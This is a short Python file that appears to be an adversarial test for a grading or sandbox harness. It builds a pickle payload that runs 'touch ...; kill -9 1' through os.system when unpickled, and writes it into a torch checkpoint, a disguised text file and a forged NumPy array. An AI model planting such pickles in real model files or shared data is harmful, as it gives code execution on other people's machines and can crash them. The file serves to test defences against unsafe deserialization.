"""Something that runs code wherever it is unpickled.

Tries: 1/98, 2/74
Attacks: secret, files
Expects: wrong_type, wrong_files
"""

import os
import pickle
import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here; kill -9 1",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def f(x, *rest):
    if rest:
        return Bomb()
    torch.save({"x": Bomb()}, "out.pt")
    with open("note.txt", "wb") as file:
        pickle.dump(Bomb(), file)
    with open("array.npy", "wb") as file:
        file.write(
            b"\x93NUMPY\x01\x00\x46\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,)}      \n"
            + pickle.dumps(Bomb())
        )
